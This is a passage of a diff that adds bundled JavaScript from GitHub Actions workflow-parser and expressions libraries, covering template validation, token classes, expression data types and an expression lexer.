+        return this.rawMessage;
+    }
+    toString() {
+        return this.message;
+    }
+}
+//# sourceMappingURL=template-validation-error.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/template-context.js
+
+/**
+ * Context object that is flowed through while loading and evaluating object templates
+ */
+class TemplateContext {
+    constructor(errors, schema, trace) {
+        this._fileIds = {};
+        this._fileNames = [];
+        /**
+         * Available functions within expression contexts
+         */
+        this.expressionFunctions = [];
+        /**
+         * Available values within expression contexts
+         */
+        this.expressionNamedContexts = [];
+        this.state = {};
+        this.errors = errors;
+        this.schema = schema;
+        this.trace = trace;
+    }
+    error(tokenOrFileId, err, tokenRange) {
+        const token = tokenOrFileId;
+        const range = tokenRange || token?.range;
+        const prefix = this.getErrorPrefix(token?.file ?? tokenOrFileId, token?.line, token?.col);
+        const message = err?.message ?? String(err);
+        const e = new TemplateValidationError(message, prefix, undefined, range);
+        this.errors.add(e);
+        this.trace.error(e.message);
+    }
+    /**
+     * Gets or adds the file ID
+     */
+    getFileId(file) {
+        const key = file.toUpperCase();
+        let id = this._fileIds[key];
+        if (id === undefined) {
+            id = this._fileNames.length + 1;
+            this._fileIds[key] = id;
+            this._fileNames.push(file);
+        }
+        return id;
+    }
+    /**
+     * Looks up a file name by ID. Returns undefined if not found.
+     */
+    getFileName(fileId) {
+        return this._fileNames.length >= fileId ? this._fileNames[fileId - 1] : undefined;
+    }
+    /**
+     * Gets a copy of the file table
+     */
+    getFileTable() {
+        return this._fileNames.slice();
+    }
+    getErrorPrefix(fileId, line, column) {
+        const fileName = fileId !== undefined ? this.getFileName(fileId) : undefined;
+        if (fileName) {
+            if (line !== undefined && column !== undefined) {
+                return `${fileName} (Line: ${line}, Col: ${column})`;
+            }
+            else {
+                return fileName;
+            }
+        }
+        else if (line !== undefined && column !== undefined) {
+            return `(Line: ${line}, Col: ${column})`;
+        }
+        else {
+            return "";
+        }
+    }
+}
+/**
+ * Provides information about errors which occurred during validation
+ */
+class TemplateValidationErrors {
+    constructor(maxErrors, maxMessageLength) {
+        this._errors = [];
+        this._maxErrors = maxErrors ?? 0;
+        this._maxMessageLength = maxMessageLength ?? 0;
+    }
+    get count() {
+        return this._errors.length;
+    }
+    add(err) {
+        for (let e of Array.isArray(err) ? err : [err]) {
+            // Check max errors
+            if (this._maxErrors <= 0 || this._errors.length < this._maxErrors) {
+                // Check max message length
+                if (this._maxMessageLength > 0 && e.message.length > this._maxMessageLength) {
+                    e = new TemplateValidationError(e.message.substring(0, this._maxMessageLength) + "[...]", e.prefix, e.code, e.range);
+                }
+                this._errors.push(e);
+            }
+        }
+    }
+    /**
+     * Throws if any errors
+     * @param prefix The error message prefix
+     */
+    check(prefix) {
+        if (this._errors.length <= 0) {
+            return;
+        }
+        if (!prefix) {
+            prefix = "The template is not valid.";
+        }
+        throw new Error(`${prefix} ${this._errors.map(x => x.message).join(",")}`);
+    }
+    clear() {
+        this._errors = [];
+    }
+    getErrors() {
+        return this._errors.slice();
+    }
+}
+//# sourceMappingURL=template-context.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/schema/definition-info.js
+class DefinitionInfo {
+    constructor(schemaOrParent, nameOrDefinition) {
+        this.isDefinitionInfo = true;
+        const parent = schemaOrParent?.isDefinitionInfo === true
+            ? schemaOrParent
+            : undefined;
+        this._schema = parent === undefined ? schemaOrParent : parent._schema;
+        // Lookup the definition if a key was passed in
+        this.definition =
+            typeof nameOrDefinition === "string" ? this._schema.getDefinition(nameOrDefinition) : nameOrDefinition;
+        // Record allowed context
+        if (this.definition.readerContext.length > 0) {
+            this.allowedContext = [];
+            // Copy parent allowed context
+            const upperSeen = {};
+            for (const context of parent?.allowedContext ?? []) {
+                this.allowedContext.push(context);
+                upperSeen[context.toUpperCase()] = true;
+            }
+            // Append context if unseen
+            for (const context of this.definition.readerContext) {
+                const upper = context.toUpperCase();
+                if (!upperSeen[upper]) {
+                    this.allowedContext.push(context);
+                    upperSeen[upper] = true;
+                }
+            }
+        }
+        else {
+            this.allowedContext = parent?.allowedContext ?? [];
+        }
+    }
+    getScalarDefinitions() {
+        return this._schema.getScalarDefinitions(this.definition);
+    }
+    getDefinitionsOfType(type) {
+        return this._schema.getDefinitionsOfType(this.definition, type);
+    }
+}
+//# sourceMappingURL=definition-info.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/schema/definition-type.js
+var DefinitionType;
+(function (DefinitionType) {
+    DefinitionType[DefinitionType["Null"] = 0] = "Null";
+    DefinitionType[DefinitionType["Boolean"] = 1] = "Boolean";
+    DefinitionType[DefinitionType["Number"] = 2] = "Number";
+    DefinitionType[DefinitionType["String"] = 3] = "String";
+    DefinitionType[DefinitionType["Sequence"] = 4] = "Sequence";
+    DefinitionType[DefinitionType["Mapping"] = 5] = "Mapping";
+    DefinitionType[DefinitionType["OneOf"] = 6] = "OneOf";
+    DefinitionType[DefinitionType["AllowedValues"] = 7] = "AllowedValues";
+})(DefinitionType || (DefinitionType = {}));
+//# sourceMappingURL=definition-type.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/template-constants.js
+const ALLOWED_VALUES = "allowed-values";
+const ANY = "any";
+const BOOLEAN = "boolean";
+const BOOLEAN_DEFINITION = "boolean-definition";
+const BOOLEAN_DEFINITION_PROPERTIES = "boolean-definition-properties";
+const CLOSE_EXPRESSION = "}}";
+const CONSTANT = "constant";
+const CONTEXT = "context";
+const DEFINITION = "definition";
+const DEFINITIONS = "definitions";
+const DESCRIPTION = "description";
+const IGNORE_CASE = "ignore-case";
+const INSERT_DIRECTIVE = "insert";
+const IS_EXPRESSION = "is-expression";
+const ITEM_TYPE = "item-type";
+const LOOSE_KEY_TYPE = "loose-key-type";
+const LOOSE_VALUE_TYPE = "loose-value-type";
+const MAX_CONSTANT = "MAX";
+const MAPPING = "mapping";
+const MAPPING_DEFINITION = "mapping-definition";
+const MAPPING_DEFINITION_PROPERTIES = "mapping-definition-properties";
+const MAPPING_PROPERTY_VALUE = "mapping-property-value";
+const NON_EMPTY_STRING = "non-empty-string";
+const NULL = "null";
+const NULL_DEFINITION = "null-definition";
+const NULL_DEFINITION_PROPERTIES = "null-definition-properties";
+const NUMBER = "number";
+const NUMBER_DEFINITION = "number-definition";
+const NUMBER_DEFINITION_PROPERTIES = "number-definition-properties";
+const ONE_OF = "one-of";
+const ONE_OF_DEFINITION = "one-of-definition";
+const OPEN_EXPRESSION = "${{";
+const PROPERTY_VALUE = "property-value";
+const PROPERTIES = "properties";
+const REQUIRED = "required";
+const REQUIRE_NON_EMPTY = "require-non-empty";
+const SCALAR = "scalar";
+const SEQUENCE = "sequence";
+const SEQUENCE_DEFINITION = "sequence-definition";
+const SEQUENCE_DEFINITION_PROPERTIES = "sequence-definition-properties";
+const TYPE = "type";
+const SEQUENCE_OF_NON_EMPTY_STRING = "sequence-of-non-empty-string";
+const STRING = "string";
+const STRING_DEFINITION = "string-definition";
+const STRING_DEFINITION_PROPERTIES = "string-definition-properties";
+const STRUCTURE = "structure";
+const TEMPLATE_SCHEMA = "template-schema";
+const template_constants_VERSION = "version";
+//# sourceMappingURL=template-constants.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/scalar-token.js
+
+/**
+ * Base class for everything that is not a mapping or sequence
+ */
+class ScalarToken extends TemplateToken {
+    constructor(type, file, range, definitionInfo) {
+        super(type, file, range, definitionInfo);
+    }
+    get isScalar() {
+        return true;
+    }
+    static trimDisplayString(displayString) {
+        let firstLine = displayString.trimStart();
+        const firstNewLine = firstLine.indexOf("\n");
+        const firstCarriageReturn = firstLine.indexOf("\r");
+        if (firstNewLine >= 0 || firstCarriageReturn >= 0) {
+            firstLine = firstLine.substr(0, Math.min(firstNewLine >= 0 ? firstNewLine : Number.MAX_VALUE, firstCarriageReturn >= 0 ? firstCarriageReturn : Number.MAX_VALUE));
+        }
+        return firstLine;
+    }
+}
+//# sourceMappingURL=scalar-token.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/literal-token.js
+
+class LiteralToken extends ScalarToken {
+    constructor(type, file, range, definitionInfo) {
+        super(type, file, range, definitionInfo);
+    }
+    get isLiteral() {
+        return true;
+    }
+    get isExpression() {
+        return false;
+    }
+    toDisplayString() {
+        return ScalarToken.trimDisplayString(this.toString());
+    }
+    /**
+     * Throws a good debug message when an unexpected literal value is encountered
+     */
+    assertUnexpectedValue(objectDescription) {
+        throw new Error(`Error while reading '${objectDescription}'. Unexpected value '${this.toString()}'`);
+    }
+}
+//# sourceMappingURL=literal-token.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/string-token.js
+
+
+class StringToken extends LiteralToken {
+    constructor(file, range, value, definitionInfo, source, blockScalarHeader) {
+        super(types_TokenType.String, file, range, definitionInfo);
+        this.value = value;
+        this.source = source;
+        this.blockScalarHeader = blockScalarHeader;
+    }
+    clone(omitSource) {
+        return omitSource
+            ? new StringToken(undefined, undefined, this.value, this.definitionInfo, this.source, this.blockScalarHeader)
+            : new StringToken(this.file, this.range, this.value, this.definitionInfo, this.source, this.blockScalarHeader);
+    }
+    toString() {
+        return this.value;
+    }
+    toJSON() {
+        return this.value;
+    }
+}
+//# sourceMappingURL=string-token.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/number-token.js
+
+
+class NumberToken extends LiteralToken {
+    constructor(file, range, value, definitionInfo) {
+        super(types_TokenType.Number, file, range, definitionInfo);
+        this.num = value;
+    }
+    get value() {
+        return this.num;
+    }
+    clone(omitSource) {
+        return omitSource
+            ? new NumberToken(undefined, undefined, this.num, this.definitionInfo)
+            : new NumberToken(this.file, this.range, this.num, this.definitionInfo);
+    }
+    toString() {
+        return `${this.num}`;
+    }
+    toJSON() {
+        return this.num;
+    }
+}
+//# sourceMappingURL=number-token.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/boolean-token.js
+
+
+class BooleanToken extends LiteralToken {
+    constructor(file, range, value, definitionInfo) {
+        super(types_TokenType.Boolean, file, range, definitionInfo);
+        this.bool = value;
+    }
+    get value() {
+        return this.bool;
+    }
+    clone(omitSource) {
+        return omitSource
+            ? new BooleanToken(undefined, undefined, this.bool, this.definitionInfo)
+            : new BooleanToken(this.file, this.range, this.bool, this.definitionInfo);
+    }
+    toString() {
+        return this.bool ? "true" : "false";
+    }
+    toJSON() {
+        return this.bool;
+    }
+}
+//# sourceMappingURL=boolean-token.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/null-token.js
+
+
+class NullToken extends LiteralToken {
+    constructor(file, range, definitionInfo) {
+        super(types_TokenType.Null, file, range, definitionInfo);
+    }
+    clone(omitSource) {
+        return omitSource
+            ? new NullToken(undefined, undefined, this.definitionInfo)
+            : new NullToken(this.file, this.range, this.definitionInfo);
+    }
+    toString() {
+        return "";
+    }
+    toJSON() {
+        return null;
+    }
+}
+//# sourceMappingURL=null-token.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/key-value-pair.js
+class KeyValuePair {
+    constructor(key, value) {
+        this.key = key;
+        this.value = value;
+    }
+}
+//# sourceMappingURL=key-value-pair.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/sequence-token.js
+
+
+class SequenceToken extends TemplateToken {
+    constructor(file, range, definitionInfo) {
+        super(types_TokenType.Sequence, file, range, definitionInfo);
+        this.seq = [];
+    }
+    get count() {
+        return this.seq.length;
+    }
+    get isScalar() {
+        return false;
+    }
+    get isLiteral() {
+        return false;
+    }
+    get isExpression() {
+        return false;
+    }
+    add(value) {
+        this.seq.push(value);
+    }
+    get(index) {
+        return this.seq[index];
+    }
+    clone(omitSource) {
+        const result = omitSource
+            ? new SequenceToken(undefined, undefined, this.definitionInfo)
+            : new SequenceToken(this.file, this.range, this.definitionInfo);
+        for (const item of this.seq) {
+            result.add(item.clone(omitSource));
+        }
+        return result;
+    }
+    toJSON() {
+        return {
+            type: types_TokenType.Sequence,
+            seq: this.seq
+        };
+    }
+    *[Symbol.iterator]() {
+        for (const item of this.seq) {
+            yield item;
+        }
+    }
+}
+//# sourceMappingURL=sequence-token.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/workflow-parser/dist/templates/tokens/mapping-token.js
+
+
+class MappingToken extends TemplateToken {
+    constructor(file, range, definitionInfo) {
+        super(types_TokenType.Mapping, file, range, definitionInfo);
+        this.map = [];
+    }
+    get count() {
+        return this.map.length;
+    }
+    get isScalar() {
+        return false;
+    }
+    get isLiteral() {
+        return false;
+    }
+    get isExpression() {
+        return false;
+    }
+    add(key, value) {
+        this.map.push(new KeyValuePair(key, value));
+    }
+    get(index) {
+        return this.map[index];
+    }
+    find(key) {
+        const pair = this.map.find(pair => pair.key.toString() === key);
+        return pair?.value;
+    }
+    remove(index) {
+        this.map.splice(index, 1);
+    }
+    clone(omitSource) {
+        const result = omitSource
+            ? new MappingToken(undefined, undefined, this.definitionInfo)
+            : new MappingToken(this.file, this.range, this.definitionInfo);
+        for (const item of this.map) {
+            result.add(item.key.clone(omitSource), item.value.clone(omitSource));
+        }
+        return result;
+    }
+    toJSON() {
+        const items = [];
+        for (const item of this.map) {
+            items.push({ Key: item.key, Value: item.value });
+        }
+        return {
+            type: types_TokenType.Mapping,
+            map: items
+        };
+    }
+    *[Symbol.iterator]() {
+        for (const item of this.map) {
+            yield item;
+        }
+    }
+}
+//# sourceMappingURL=mapping-token.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/ast.js
+class Expr {
+}
+class Literal extends Expr {
+    constructor(literal, token) {
+        super();
+        this.literal = literal;
+        this.token = token;
+    }
+    accept(v) {
+        return v.visitLiteral(this);
+    }
+}
+class Unary extends Expr {
+    constructor(operator, expr) {
+        super();
+        this.operator = operator;
+        this.expr = expr;
+    }
+    accept(v) {
+        return v.visitUnary(this);
+    }
+}
+class FunctionCall extends Expr {
+    constructor(functionName, args) {
+        super();
+        this.functionName = functionName;
+        this.args = args;
+    }
+    accept(v) {
+        return v.visitFunctionCall(this);
+    }
+}
+class Binary extends Expr {
+    constructor(left, operator, right) {
+        super();
+        this.left = left;
+        this.operator = operator;
+        this.right = right;
+    }
+    accept(v) {
+        return v.visitBinary(this);
+    }
+}
+class Logical extends Expr {
+    constructor(operator, args) {
+        super();
+        this.operator = operator;
+        this.args = args;
+    }
+    accept(v) {
+        return v.visitLogical(this);
+    }
+}
+class Grouping extends Expr {
+    constructor(group) {
+        super();
+        this.group = group;
+    }
+    accept(v) {
+        return v.visitGrouping(this);
+    }
+}
+class ContextAccess extends Expr {
+    constructor(name) {
+        super();
+        this.name = name;
+    }
+    accept(v) {
+        return v.visitContextAccess(this);
+    }
+}
+class IndexAccess extends Expr {
+    constructor(expr, index) {
+        super();
+        this.expr = expr;
+        this.index = index;
+    }
+    accept(v) {
+        return v.visitIndexAccess(this);
+    }
+}
+class ast_Star extends Expr {
+    accept() {
+        throw new Error("Method not implemented.");
+    }
+}
+//# sourceMappingURL=ast.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/expressiondata.js
+var expressiondata_Kind;
+(function (Kind) {
+    Kind[Kind["String"] = 0] = "String";
+    Kind[Kind["Array"] = 1] = "Array";
+    Kind[Kind["Dictionary"] = 2] = "Dictionary";
+    Kind[Kind["Boolean"] = 3] = "Boolean";
+    Kind[Kind["Number"] = 4] = "Number";
+    Kind[Kind["CaseSensitiveDictionary"] = 5] = "CaseSensitiveDictionary";
+    Kind[Kind["Null"] = 6] = "Null";
+})(expressiondata_Kind || (expressiondata_Kind = {}));
+function kindStr(k) {
+    switch (k) {
+        case expressiondata_Kind.Array:
+            return "Array";
+        case expressiondata_Kind.Boolean:
+            return "Boolean";
+        case expressiondata_Kind.Null:
+            return "Null";
+        case expressiondata_Kind.Number:
+            return "Number";
+        case expressiondata_Kind.Dictionary:
+            return "Object";
+        case expressiondata_Kind.String:
+            return "String";
+    }
+    return "unknown";
+}
+//# sourceMappingURL=expressiondata.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/dictionary.js
+
+class Dictionary {
+    constructor(...pairs) {
+        this.keys = [];
+        this.v = [];
+        this.indexMap = {};
+        this.kind = expressiondata_Kind.Dictionary;
+        this.primitive = false;
+        for (const p of pairs) {
+            this.add(p.key, p.value);
+        }
+    }
+    coerceString() {
+        return kindStr(this.kind);
+    }
+    number() {
+        return NaN;
+    }
+    add(key, value) {
+        if (key.toLowerCase() in this.indexMap) {
+            return;
+        }
+        this.keys.push(key);
+        this.v.push(value);
+        this.indexMap[key.toLowerCase()] = this.v.length - 1;
+    }
+    get(key) {
+        const index = this.indexMap[key.toLowerCase()];
+        if (index === undefined) {
+            return undefined;
+        }
+        return this.v[index];
+    }
+    values() {
+        return this.v;
+    }
+    pairs() {
+        const result = [];
+        for (const key of this.keys) {
+            result.push({ key, value: this.v[this.indexMap[key.toLowerCase()]] });
+        }
+        return result;
+    }
+}
+function dictionary_isDictionary(x) {
+    return x.kind === Kind.Dictionary;
+}
+//# sourceMappingURL=dictionary.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/array.js
+
+class array_Array {
+    constructor(...data) {
+        this.v = [];
+        this.kind = expressiondata_Kind.Array;
+        this.primitive = false;
+        for (const d of data) {
+            this.add(d);
+        }
+    }
+    coerceString() {
+        return kindStr(this.kind);
+    }
+    number() {
+        return NaN;
+    }
+    add(value) {
+        this.v.push(value);
+    }
+    get(index) {
+        return this.v[index];
+    }
+    values() {
+        return this.v;
+    }
+}
+//# sourceMappingURL=array.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/boolean.js
+
+class BooleanData {
+    constructor(value) {
+        this.value = value;
+        this.kind = expressiondata_Kind.Boolean;
+        this.primitive = true;
+    }
+    coerceString() {
+        if (this.value) {
+            return "true";
+        }
+        return "false";
+    }
+    number() {
+        if (this.value) {
+            return 1;
+        }
+        return 0;
+    }
+}
+//# sourceMappingURL=boolean.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/null.js
+
+class Null {
+    constructor() {
+        this.kind = expressiondata_Kind.Null;
+        this.primitive = true;
+    }
+    coerceString() {
+        return "";
+    }
+    number() {
+        return 0;
+    }
+}
+//# sourceMappingURL=null.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/number.js
+
+class NumberData {
+    constructor(value) {
+        this.value = value;
+        this.kind = expressiondata_Kind.Number;
+        this.primitive = true;
+    }
+    coerceString() {
+        if (this.value === 0) {
+            return "0";
+        }
+        // Workaround to limit the precision to at most 15 digits. Format the number to a string, then parse
+        // it back to a number to remove trailing zeroes to prevent numbers to be converted to 1.200000000...
+        return (+this.value.toFixed(15)).toString();
+    }
+    number() {
+        return this.value;
+    }
+}
+//# sourceMappingURL=number.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/string.js
+
+class StringData {
+    constructor(value) {
+        this.value = value;
+        this.kind = expressiondata_Kind.String;
+        this.primitive = true;
+    }
+    coerceString() {
+        return this.value;
+    }
+    number() {
+        return Number(this.value);
+    }
+}
+//# sourceMappingURL=string.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/replacer.js
+
+
+
+
+
+
+/**
+ * Replacer can be passed to JSON.stringify to convert an ExpressionData object into plain JSON
+ *
+ * See: https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/JSON/stringify#replacer
+ */
+function replacer(_key, value) {
+    if (value instanceof Null) {
+        return null;
+    }
+    if (value instanceof BooleanData) {
+        return value.value;
+    }
+    if (value instanceof NumberData) {
+        return value.number();
+    }
+    if (value instanceof StringData) {
+        return value.coerceString();
+    }
+    if (value instanceof array_Array) {
+        return value.values();
+    }
+    if (value instanceof Dictionary) {
+        const pairs = value.pairs();
+        const r = {};
+        for (const p of pairs) {
+            r[p.key] = p.value;
+        }
+        return r;
+    }
+    return value;
+}
+//# sourceMappingURL=replacer.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/reviver.js
+
+
+
+
+
+
+/**
+ * Reviver can be passed to `JSON.parse` to convert plain JSON into an `ExpressionData` object.
+ *
+ * See: https://developer.mozilla.org/en-US/docs/Web/JavaScript/Reference/Global_Objects/JSON/parse#reviver
+ */
+function reviver(_key, val) {
+    if (val === null) {
+        return new Null();
+    }
+    if (typeof val === "string") {
+        return new StringData(val);
+    }
+    if (typeof val === "number") {
+        return new NumberData(val);
+    }
+    if (typeof val === "boolean") {
+        return new BooleanData(val);
+    }
+    if (Array.isArray(val)) {
+        return new array_Array(...val);
+    }
+    if (typeof val === "object") {
+        return new Dictionary(...Object.keys(val).map(k => ({
+            key: k,
+            value: val[k]
+        })));
+    }
+    // Pass through value
+    return val;
+}
+//# sourceMappingURL=reviver.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/data/index.js
+
+
+
+
+
+
+
+
+
+//# sourceMappingURL=index.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/filtered_array.js
+
+class filtered_array_FilteredArray extends array_Array {
+}
+//# sourceMappingURL=filtered_array.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/lexer.js
+
+
+var lexer_TokenType;
+(function (TokenType) {
+    TokenType[TokenType["UNKNOWN"] = 0] = "UNKNOWN";
+    TokenType[TokenType["LEFT_PAREN"] = 1] = "LEFT_PAREN";
+    TokenType[TokenType["RIGHT_PAREN"] = 2] = "RIGHT_PAREN";
+    TokenType[TokenType["LEFT_BRACKET"] = 3] = "LEFT_BRACKET";
+    TokenType[TokenType["RIGHT_BRACKET"] = 4] = "RIGHT_BRACKET";
+    TokenType[TokenType["COMMA"] = 5] = "COMMA";
+    TokenType[TokenType["DOT"] = 6] = "DOT";
+    TokenType[TokenType["BANG"] = 7] = "BANG";
+    TokenType[TokenType["BANG_EQUAL"] = 8] = "BANG_EQUAL";
+    TokenType[TokenType["EQUAL_EQUAL"] = 9] = "EQUAL_EQUAL";
+    TokenType[TokenType["GREATER"] = 10] = "GREATER";
+    TokenType[TokenType["GREATER_EQUAL"] = 11] = "GREATER_EQUAL";
+    TokenType[TokenType["LESS"] = 12] = "LESS";
+    TokenType[TokenType["LESS_EQUAL"] = 13] = "LESS_EQUAL";
+    TokenType[TokenType["AND"] = 14] = "AND";
+    TokenType[TokenType["OR"] = 15] = "OR";
+    TokenType[TokenType["STAR"] = 16] = "STAR";
+    TokenType[TokenType["NUMBER"] = 17] = "NUMBER";
+    TokenType[TokenType["STRING"] = 18] = "STRING";
+    TokenType[TokenType["IDENTIFIER"] = 19] = "IDENTIFIER";
+    TokenType[TokenType["TRUE"] = 20] = "TRUE";
+    TokenType[TokenType["FALSE"] = 21] = "FALSE";
+    TokenType[TokenType["NULL"] = 22] = "NULL";
+    TokenType[TokenType["EOF"] = 23] = "EOF";
+})(lexer_TokenType || (lexer_TokenType = {}));
+function tokenString(tok) {
+    switch (tok.type) {
+        case lexer_TokenType.EOF:
+            return "EOF";
+        case lexer_TokenType.NUMBER:
+            return tok.lexeme;
+        case lexer_TokenType.STRING:
+            // eslint-disable-next-line @typescript-eslint/no-non-null-assertion
+            return tok.value.toString();
+        default:
+            return tok.lexeme;
+    }
+}
+class lexer_Lexer {
+    constructor(input) {
+        this.input = input;
+        this.start = 0;
+        this.offset = 0;
+        this.line = 0;
+        this.lastLineOffset = 0;
+        this.tokens = [];
+    }
+    lex() {
+        if (this.input.length > MAX_EXPRESSION_LENGTH) {
+            throw new Error("ErrorExceededMaxLength");
+        }
+        while (!this.atEnd()) {
+            this.start = this.offset;
+            const c = this.next();
+            switch (c) {
+                case "(":
+                    this.addToken(lexer_TokenType.LEFT_PAREN);
+                    break;
+                case ")":
+                    this.addToken(lexer_TokenType.RIGHT_PAREN);
+                    break;
+                case "[":
+                    this.addToken(lexer_TokenType.LEFT_BRACKET);
+                    break;
+                case "]":
+                    this.addToken(lexer_TokenType.RIGHT_BRACKET);
+                    break;
+                case ",":
+                    this.addToken(lexer_TokenType.COMMA);
+                    break;
+                case ".":
+                    if (this.previous() != lexer_TokenType.IDENTIFIER &&
+                        this.previous() != lexer_TokenType.RIGHT_BRACKET &&
+                        this.previous() != lexer_TokenType.RIGHT_PAREN &&
+                        this.previous() != lexer_TokenType.STAR) {
+                        this.consumeNumber();
+                    }
+                    else {
+                        this.addToken(lexer_TokenType.DOT);
+                    }
+                    break;
+                case "-":
+                case "+":
+                    this.consumeNumber();
+                    break;
+                case "!":
+                    this.addToken(this.match("=") ? lexer_TokenType.BANG_EQUAL : lexer_TokenType.BANG);
+                    break;
+                case "=":
+                    if (!this.match("=")) {
+                        // Illegal; continue reading until we hit a boundary character and return an error
+                        this.consumeIdentifier();
+                        break;
+                    }
+                    this.addToken(lexer_TokenType.EQUAL_EQUAL);
+                    break;
+                case "<":
+                    this.addToken(this.match("=") ? lexer_TokenType.LESS_EQUAL : lexer_TokenType.LESS);
+                    break;
+                case ">":
+                    this.addToken(this.match("=") ? lexer_TokenType.GREATER_EQUAL : lexer_TokenType.GREATER);
+                    break;
+                case "&":
+                    if (!this.match("&")) {
+                        // Illegal; continue reading until we hit a boundary character and return an error
+                        this.consumeIdentifier();
+                        break;
+                    }
+                    this.addToken(lexer_TokenType.AND);
+                    break;
+                case "|":
+                    if (!this.match("|")) {
+                        // Illegal; continue reading until we hit a boundary character and return an error
+                        this.consumeIdentifier();
+                        break;
+                    }
+                    this.addToken(lexer_TokenType.OR);
+                    break;
+                case "*":
+                    this.addToken(lexer_TokenType.STAR);
+                    break;
+                // Ignore whitespace.
+                case " ":
+                case "\r":
+                case "\t":
+                    break;
+                case "\n":
+                    ++this.line;
+                    this.lastLineOffset = this.offset;
+                    break;
+                case "'":
+                    this.consumeString();
+                    break;
+                default:
+                    switch (true) {
+                        case isDigit(c):
+                            this.consumeNumber();
+                            break;
+                        default:
+                            this.consumeIdentifier();
+                            break;
+                    }
+            }
+        }
+        this.tokens.push({
+            type: lexer_TokenType.EOF,
+            lexeme: "",
+            range: this.range()
+        });
+        return {
+            tokens: this.tokens
+        };
+    }
+    pos() {
+        return {
+            line: this.line,
+            column: this.start - this.lastLineOffset
+        };
+    }
+    endPos() {
+        return {
+            line: this.line,
+            column: this.offset - this.lastLineOffset
+        };
+    }
+    range() {
+        return {
+            start: this.pos(),
+            end: this.endPos()
+        };
+    }
+    atEnd() {
+        return this.offset >= this.input.length;
+    }
+    peek() {
+        if (this.atEnd()) {
+            return "\0";
+        }
+        return this.input[this.offset];
+    }
+    peekNext() {
+        if (this.offset + 1 >= this.input.length) {
+            return "\0";
+        }
+        return this.input[this.offset + 1];
+    }
+    previous() {
+        const l = this.tokens.length;
+        if (l == 0) {
+            return lexer_TokenType.EOF;
+        }
+        return this.tokens[l - 1].type;
+    }
+    next() {
+        return this.input[this.offset++];
+    }
+    match(expected) {
+        if (this.atEnd()) {
+            return false;
+        }
+        if (this.input[this.offset] !== expected) {
+            return false;
+        }
+        this.offset++;
+        return true;
+    }
+    addToken(type, value) {
+        this.tokens.push({
+            type,
+            lexeme: this.input.substring(this.start, this.offset),
+            range: this.range(),
+            value
+        });
+    }
+    consumeNumber() {
+        while (!this.atEnd() && (!isBoundary(this.peek()) || this.peek() == ".")) {
+            this.next();
+        }
+        const lexeme = this.input.substring(this.start, this.offset);
+        const value = new StringData(lexeme).number();
+        if (isNaN(value)) {
+            throw new Error(`Unexpected symbol: '${lexeme}'. Located at position ${this.start + 1} within expression: ${this.input}`);
+        }
+        this.addToken(lexer_TokenType.NUMBER, value);
+    }
+    consumeString() {
+        while ((this.peek() !== "'" || this.peekNext() === "'") && !this.atEnd()) {
+            if (this.peek() === "\n")
+                this.line++;
+            if (this.peek() === "'" && this.peekNext() === "'") {
+                // Escaped "'", consume
+                this.next();
+            }
+            this.next();
+        }
+        if (this.atEnd()) {
+            // Unterminated string
+            throw new Error(`Unexpected symbol: '${this.input.substring(this.start)}'. Located at position ${this.start + 1} within expression: ${this.input}`);
+        }
+        // Closing '
+        this.next();
+        // Trim the surrounding quotes.
+        let value = this.input.substring(this.start + 1, this.offset - 1);
+        value = value.replace("''", "'");
+        this.addToken(lexer_TokenType.STRING, value);
+    }
+    consumeIdentifier() {
+        while (!this.atEnd() && !isBoundary(this.peek())) {
+            this.next();
+        }
+        let tokenType = lexer_TokenType.IDENTIFIER;
+        let tokenValue = undefined;
+        const lexeme = this.input.substring(this.start, this.offset);
+        if (this.previous() != lexer_TokenType.DOT) {
+            switch (lexeme) {
+                case "true":
+                    tokenType = lexer_TokenType.TRUE;
+                    break;
+                case "false":
+                    tokenType = lexer_TokenType.FALSE;
+                    break;
+                case "null":
+                    tokenType = lexer_TokenType.NULL;
+                    break;
+                case "NaN":
+                    tokenType = lexer_TokenType.NUMBER;
+                    tokenValue = NaN;
+                    break;
+                case "Infinity":
+                    tokenType = lexer_TokenType.NUMBER;
+                    tokenValue = Infinity;
+                    break;
+            }
+        }
+        if (!isLegalIdentifier(lexeme)) {
+            throw new Error(`Unexpected symbol: '${lexeme}'. Located at position ${this.start + 1} within expression: ${this.input}`);
+        }
+        this.addToken(tokenType, tokenValue);
+    }
+}
+function isDigit(c) {
+    return c >= "0" && c <= "9";
+}
+function isBoundary(c) {
+    switch (c) {
+        case "(":
+        case "[":
+        case ")":
+        case "]":
+        case ",":
+        case ".":
+        case "!":
+        case ">":
+        case "<":
+        case "=":
+        case "&":
+        case "|":
+            return true;
+    }
+    return /\s/.test(c);
